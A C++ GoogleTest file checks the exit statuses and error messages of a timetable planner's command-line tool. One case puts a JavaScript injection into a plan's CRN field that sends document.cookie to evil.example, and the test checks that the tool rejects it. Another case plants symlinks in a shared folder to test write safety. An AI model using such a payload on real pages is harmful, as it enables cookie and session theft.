#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>

#include "catalogue/file_system.h"
#include "cli/cli_folder_test.h"
#include "files/dkf_format.h"

namespace kiremo::cli {
namespace {

using testing_support::CliResult;
using testing_support::Section;
using testing_support::W;

// A script tells success from failure by the exit status alone: every
// command that does not do what it was asked ends non-zero (2 for words it
// cannot take, 1 for the rest) and says why on stderr.
class ExitStatusTest : public testing_support::CliFolderTest {
 protected:
  void SetUp() override {
    testing_support::CatalogueFixture store(folder.Path());
    // MAT 101E and FIZ 101 meet at the same hour: no timetable holds both.
    store.Department("MAT", {Section("10000", "MAT 101E", "Ali", "Pazartesi", "0930/1129", "EEB", "D1", W("TÜM"_w))});
    store.Department("FIZ", {Section("20000", "FIZ 101", "Nur", "Pazartesi", "1030/1229", "EEB", "D1", W("TÜM"_w)),
                             Section("20001", "FIZ 102", "Nur", "Cuma", "1030/1229", "EEB", "D1", W("TÜM"_w))});
    const CliResult saved =
        Cli({"generate", "--course", "MAT 101E", "--course", "FIZ 102", "--apply", "1", "--save", plan});
    ASSERT_EQ(saved.status, 0) << saved.err;
  }

  CliResult Cli(std::vector<std::string> words) { return RunIn(std::move(words)); }

  std::string plan = folder / "plan.dkf";
};

TEST_F(ExitStatusTest, EveryFailingCommandEndsNonZero) {
  ::setenv("KIREMO_SCHEDULE_URL", "http://127.0.0.1:9/", 1);
  const std::string not_written = folder / "yazilmamali.dkf";
  // A CRN that would run as code in the add/drop script.
  const std::string code_plan = folder / "kod.dkf";
  planner::PlanSnapshot spoiled = files::DecodePlan(ReadWholeFile(plan));
  spoiled.rows[0]->CRN = "1,fetch('https://evil.example/?c='+document.cookie)";
  WriteFileAtomically(code_plan, files::EncodePlan(spoiled));
  struct Case {
    std::vector<std::string> words;
    int status;
    std::string why;  // a piece of what it says (the generator's boxes are its output)
  };
  const std::vector<std::string> clash = {"generate", "--course", "MAT 101E", "--course", "FIZ 101"};
  auto with = [](std::vector<std::string> words, const std::vector<std::string>& extra) {
    words.insert(words.end(), extra.begin(), extra.end());
    return words;
  };
  std::vector<Case> cases = {
      {{}, 1, "kullanım"},
      {{"planla"}, 2, "bilinmeyen komut"},
      {{"courses", "XYZ"}, 1, "katalogda yok"},
      {{"sections", "MAT", "MAT 999"}, 1, "bölümünde yok"},
      {{"cut-page", folder / "yok.html"}, 1, "okunamadı"},
      {with(clash, {"--hours", "25-3"}), 2, "--hours: ilk saat 8 ile 22"},
      {with(clash, {"--hours", "ab-9"}), 2, "--hours: ilk saat 8 ile 22"},
      {with(clash, {"--hours", "9"}), 2, "--hours: ilk saat ile son saat"},
      {with(clash, {"--hours", "9-24"}), 2, "--hours: son saat 9 ile 23"},
      {with(clash, {"--hours", "12-12"}), 2, "--hours: son saat (12) ilk saatten (12)"},
      {{"generate", "--course", "MAT 101E"}, 1, "Tek dersle"},
      {clash, 1, "imkansız"},
      {with(clash, {"--apply", "1", "--save", not_written}), 1, "1. alternatif yok"},
      {{"plan", "show", folder / "yok.dkf"}, 1, "okunamadı"},
      {{"plan", "export", plan, folder / "yok/program.xlsx"}, 1, "yazılamadı"},
      {{"plan", "crns", code_plan, "--script"}, 1, "1. satırdaki dersin CRN'si beş haneli bir sayı değil"},
      {{"plan", "check", code_plan}, 2, "1. satırdaki dersin CRN'si beş haneli bir sayı değil"},
      {{"update", "--department", "MAT"}, 1, ""},
  };
  // Another user's links in a sticky folder that everyone writes, leading
  // to the student's own notes: no file the program writes goes through them.
  const bool root = ::geteuid() == 0;  // planting another user's link needs root
  const std::string notes = folder / "notlar.txt";
  const std::string shared = folder / "paylasilan/";
  if (root) {
    std::filesystem::create_directory(shared);
    ::chmod(shared.c_str(), 01777);
    std::ofstream(notes) << "notlar";
    for (const char* name : {"hafta.xlsx", "hafta.ics", "plan.dkf"}) {
      std::filesystem::create_symlink(notes, shared + name);
      ASSERT_EQ(::lchown((shared + name).c_str(), 4343, 4343), 0);
    }
    const std::string planted = "\", herkesin yazabildiği bir klasörde başka bir kullanıcıya ait bir bağlantı";
    cases.push_back({{"plan", "export", plan, shared + "hafta.xlsx"}, 1, shared + "hafta.xlsx" + planted});
    cases.push_back({{"plan", "export", plan, shared + "hafta.ics", "--term-start", "2025-09-15"},
                     1,
                     shared + "hafta.ics" + planted});
    cases.push_back(
        {{"generate", "--course", "MAT 101E", "--course", "FIZ 102", "--apply", "1", "--save", shared + "plan.dkf"},
         1,
         shared + "plan.dkf" + planted});
  }
  for (const Case& c : cases) {
    std::string shown;
    for (const std::string& word : c.words) shown += word + " ";
    SCOPED_TRACE(shown);
    const CliResult run = Cli(c.words);
    EXPECT_EQ(run.status, c.status) << run.err;
    EXPECT_NE((run.out + run.err).find(c.why), std::string::npos) << run.out << run.err;
  }
  ::unsetenv("KIREMO_SCHEDULE_URL");
  EXPECT_FALSE(std::filesystem::exists(not_written));
  if (!root) GTEST_SKIP() << "the cases of another user's planted links need root";
  std::ifstream kept(notes);
  EXPECT_EQ(std::string(std::istreambuf_iterator<char>(kept), {}), "notlar");
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(shared), {}), 3);
}

// A plan whose departments the catalogue can no longer list is shown with
// the "HATA" box the window would show, and the run counts as failed.
TEST_F(ExitStatusTest, PlanShownOverAMissingCatalogueFails) {
  std::filesystem::remove(folder / "DataBase/dbase.dbs");
  for (const char* action : {"show", "crns"}) {
    const CliResult run = Cli({"plan", action, plan});
    EXPECT_EQ(run.status, 1) << action;
    EXPECT_NE(run.err.find("HATA: Database"), std::string::npos) << run.err;
  }
}

}  // namespace
}  // namespace kiremo::cli
